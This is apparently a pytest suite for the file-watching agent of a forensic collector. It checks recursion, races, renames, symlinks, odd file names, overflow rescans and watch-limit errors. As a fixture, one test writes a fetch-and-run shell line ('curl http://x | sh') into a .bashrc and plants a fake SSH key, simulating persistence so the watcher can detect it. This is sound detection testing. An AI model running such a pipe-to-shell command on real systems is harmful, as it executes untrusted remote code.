"""The agent's watching behaviour, in process (fast): recursion, races, late locations, moves,
symlinks, odd names, overflow reconciliation, watch limits and permission errors."""

from __future__ import annotations

import errno
import os
from pathlib import Path

import pytest
from mlsleuth.collector.watch import inotify as ino
from mlsleuth.collector.watch import verdicts as verdicts_mod
from mlsleuth.collector.watch.hasher import Alerts, Hasher
from mlsleuth.collector.watch.journal import Journal
from mlsleuth.collector.watch.locations import Target
from mlsleuth.collector.watch.watcher import Watcher
from mlsleuth.parsers.watch_journal import parse_journal
from watch_helpers import InProcessAgent, read_journal


@pytest.fixture(autouse=True)
def no_inspector(monkeypatch):
    monkeypatch.setattr(verdicts_mod, "_inspect", None)


def paths_of(lines, *events):
    return [r.get("path") for r in lines if r["event"] in events]


def test_new_nested_directories_are_watched_and_raced_files_found(tmp_path: Path):
    root, data = tmp_path / "root", tmp_path / "root" / "data"
    data.mkdir(parents=True)
    with InProcessAgent(tmp_path / "j", root, data) as agent:
        deep = data / "a" / "b" / "c"
        deep.mkdir(parents=True)  # created faster than the agent can add watches
        (deep / "early.txt").write_text("x")
        agent.wait(lambda r: r.get("path") == "/data/a/b/c/early.txt")
        (deep / "late.txt").write_text("y")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and r.get("path") == "/data/a/b/c/late.txt")
    lines = read_journal(tmp_path / "j")
    seen = set(paths_of(lines, "CREATE", "SCAN"))
    assert {"/data/a", "/data/a/b", "/data/a/b/c", "/data/a/b/c/early.txt"} <= seen
    early = [r for r in lines if r.get("path") == "/data/a/b/c/early.txt"]
    assert early[0]["event"] in ("SCAN", "CREATE") and early[0]["size"] in (0, 1)


def test_location_that_does_not_exist_yet_is_picked_up(tmp_path: Path):
    root = tmp_path / "root"
    (root / "home").mkdir(parents=True)
    with InProcessAgent(tmp_path / "j", root, defaults=True) as agent:
        home = root / "home" / "bob"  # a user created after the agent started
        (home / ".ssh").mkdir(parents=True)
        agent.wait(lambda r: r.get("path") == "/home/bob/.ssh")
        (home / ".ssh" / "authorized_keys").write_text("ssh-rsa AAAA evil\n")
        (home / ".bashrc").write_text("curl http://x | sh\n")
        (home / "notes.txt").write_text("not a watched location\n")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and r["path"] == "/home/bob/.bashrc")
        agent.wait(lambda r: r["event"] == "HASH" and r["path"] == "/home/bob/.ssh/authorized_keys")
    lines = read_journal(tmp_path / "j")
    assert "/home/bob/.ssh/authorized_keys" in paths_of(lines, "CLOSE_WRITE")
    assert "/home/bob/notes.txt" not in {r.get("path") for r in lines}


def test_rename_delete_attrib_and_directory_moves(tmp_path: Path):
    root, data = tmp_path / "root", tmp_path / "root" / "data"
    (data / "sub").mkdir(parents=True)
    outside = tmp_path / "root" / "elsewhere"
    outside.mkdir()
    with InProcessAgent(tmp_path / "j", root, data) as agent:
        (data / "f.tmp").write_text("1")
        os.rename(data / "f.tmp", data / "f.bin")
        os.chmod(data / "f.bin", 0o755)
        agent.wait(lambda r: r["event"] == "ATTRIB")
        os.unlink(data / "f.bin")
        os.rename(data / "sub", data / "moved")  # within the tree: same watches, new path
        agent.wait(lambda r: r["event"] == "MOVED_TO" and r["path"] == "/data/moved")
        (data / "moved" / "in.txt").write_text("2")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and r["path"] == "/data/moved/in.txt")
        os.rename(data / "moved", outside / "gone")  # out of sight
        agent.wait(lambda r: r["event"] == "MOVED_FROM" and r["path"] == "/data/moved")
        (outside / "gone" / "after.txt").write_text("3")
        (data / "sync.txt").write_text("4")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and r["path"] == "/data/sync.txt")
    lines = read_journal(tmp_path / "j")
    moved = next(r for r in lines if r["event"] == "MOVED_TO" and r["path"] == "/data/f.bin")
    assert moved["src_path"] == "/data/f.tmp"
    attrib = next(r for r in lines if r["event"] == "ATTRIB")
    assert attrib["path"] == "/data/f.bin" and attrib["mode"] == 0o755
    assert "/data/f.bin" in paths_of(lines, "DELETE")
    assert not [r for r in lines if "after.txt" in str(r.get("path"))]
    renamed = [e for e in parse_journal(tmp_path / "j") if e.timestamp_desc == "File Renamed"]
    assert {(e.extra["src_path"], e.file_path) for e in renamed} >= {("/data/f.tmp", "/data/f.bin"),
                                                                    ("/data/sub", "/data/moved")}


def test_symlinks_are_recorded_never_followed(tmp_path: Path):
    root, data = tmp_path / "root", tmp_path / "root" / "data"
    data.mkdir(parents=True)
    secret = tmp_path / "outside"
    secret.mkdir()
    with InProcessAgent(tmp_path / "j", root, data) as agent:
        (data / "link").symlink_to(secret)
        agent.wait(lambda r: r.get("path") == "/data/link")
        (secret / "x.pkl").write_bytes(b"data")
        (data / "sync").write_text("")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and r["path"] == "/data/sync")
    lines = read_journal(tmp_path / "j")
    link = next(r for r in lines if r.get("path") == "/data/link")
    assert link["link_target"] == str(secret)
    assert not [r for r in lines if "x.pkl" in str(r.get("path"))]


def test_names_that_are_not_utf8_survive_the_round_trip(tmp_path: Path):
    root, data = tmp_path / "root", tmp_path / "root" / "data"
    data.mkdir(parents=True)
    odd = os.fsencode(data) + b"/evil\xff\xfe.pkl"
    odd_dir = os.fsencode(data) + b"/dir\xff"
    with InProcessAgent(tmp_path / "j", root, data) as agent:
        with open(odd, "wb") as fh:
            fh.write(b"x")
        os.mkdir(odd_dir)
        agent.wait(lambda r: r.get("path") == os.fsdecode(odd_dir)[len(str(root)):])
        with open(odd_dir + b"/inner", "wb") as fh:  # watched through its descriptor
            fh.write(b"y")
        agent.wait(lambda r: r["event"] == "CLOSE_WRITE" and str(r.get("path", "")).endswith("/inner"))
        agent.wait(lambda r: r["event"] == "HASH" and "evil" in r["path"])
    written = [e for e in parse_journal(tmp_path / "j") if e.timestamp_desc == "File Written"]
    assert os.fsencode(written[0].file_path) == b"/data/evil\xff\xfe.pkl"


def _manual(tmp_path: Path, notify=None, max_queue: int = 100):
    root = tmp_path / "root"
    (root / "data").mkdir(parents=True, exist_ok=True)
    journal = Journal(tmp_path / "j", {"host": "t"}, fsync_interval=0.05)
    journal.open()
    hasher = Hasher(journal, Alerts(journal, None), max_queue)
    notify = notify or ino.Inotify()
    watcher = Watcher(notify, journal, hasher, str(root), [Target.of("/data", "tree")])
    return root, journal, hasher, notify, watcher


def test_overflow_is_recorded_and_the_trees_rescanned(tmp_path: Path):
    root, journal, hasher, notify, watcher = _manual(tmp_path)
    hasher.start()
    watcher.start()
    data = root / "data"
    (data / "old").mkdir()
    watcher.handle(notify.read(), 0)
    import time

    time.sleep(0.05)
    (data / "new" / "deep").mkdir(parents=True)  # lost: the queue "overflows" before we read
    (data / "new" / "deep" / "m.pkl").write_bytes(b"payload")
    (data / "old").rmdir()
    notify.read()  # what the kernel would have dropped
    watcher.handle([ino.RawEvent(-1, ino.IN_Q_OVERFLOW, 0, "")], time.time_ns())
    assert watcher.rescan_needed
    summary = watcher.rescan()
    (data / "new" / "deep" / "after.txt").write_text("z")  # the new directory is watched now
    time.sleep(0.05)
    watcher.handle(notify.read(), time.time_ns())
    hasher.stop(5)
    journal.close()
    lines = read_journal(tmp_path / "j")
    assert [r["event"] for r in lines].count("OVERFLOW") == 1
    found = {r["path"] for r in lines if r["event"] == "SCAN" and r["reason"] == "rescan"}
    assert {"/data/new", "/data/new/deep", "/data/new/deep/m.pkl"} <= found
    assert {r["path"] for r in lines if r["event"] == "GONE"} == {"/data/old"}
    assert summary["gone"] == 1
    assert "/data/new/deep/after.txt" in paths_of(lines, "CLOSE_WRITE")
    assert any(r["event"] == "HASH" and r["path"] == "/data/new/deep/m.pkl" for r in lines)
    notify.close()


class FakeInotify:
    """add_watch fails like the kernel does when a limit is hit or access is denied."""

    def __init__(self, fail_after: int, code: int) -> None:
        self.fd, self.n, self.fail_after, self.code = -1, 0, fail_after, code

    def add_watch(self, path: str) -> int:
        self.n += 1
        if self.n > self.fail_after:
            raise OSError(self.code, os.strerror(self.code), path)
        return self.n

    def rm_watch(self, wd: int) -> None:
        pass


def test_watch_limit_exhaustion_is_reported_with_the_fix(tmp_path: Path):
    root, journal, hasher, _, watcher = _manual(tmp_path, FakeInotify(3, errno.ENOSPC))
    for i in range(5):
        (root / "data" / f"d{i}").mkdir()
    summary = watcher.start()
    journal.close()
    limit = [r for r in read_journal(tmp_path / "j") if r["event"] == "WATCH_LIMIT"]
    assert len(limit) == 1
    assert "sysctl fs.inotify.max_user_watches=" in limit[0]["fix"]
    assert summary["unwatched"] == 4  # data/ had 1 watch slot left: d0..d4 minus one


def test_permission_denied_is_an_error_line_and_the_rest_goes_on(tmp_path: Path):
    root, journal, hasher, _, watcher = _manual(tmp_path, FakeInotify(2, errno.EACCES))
    (root / "data" / "locked").mkdir()
    watcher.start()
    journal.close()
    errors = [r for r in read_journal(tmp_path / "j") if r["event"] == "ERROR"]
    assert errors and errors[0]["errno"] == "EACCES" and "permission denied" in errors[0]["error"].lower()


def test_full_hash_queue_is_journaled_not_dropped(tmp_path: Path):
    root, journal, hasher, notify, watcher = _manual(tmp_path, max_queue=1)
    from mlsleuth.collector.watch.hasher import Job

    hasher.submit(Job(str(root / "a.pkl"), "/a.pkl", "model", 1))  # worker not started: stays queued
    hasher.submit(Job(str(root / "a.pkl"), "/a.pkl", "model", 2))  # same file: coalesced
    hasher.submit(Job(str(root / "b.pkl"), "/b.pkl", "model", 3))
    journal.close()
    notify.close()
    skipped = [r for r in read_journal(tmp_path / "j") if r["event"] == "HASH_SKIPPED"]
    assert [(r["path"], r["for_seq"]) for r in skipped] == [("/b.pkl", 3)]
    assert "--max-queue 1" in skipped[0]["reason"]
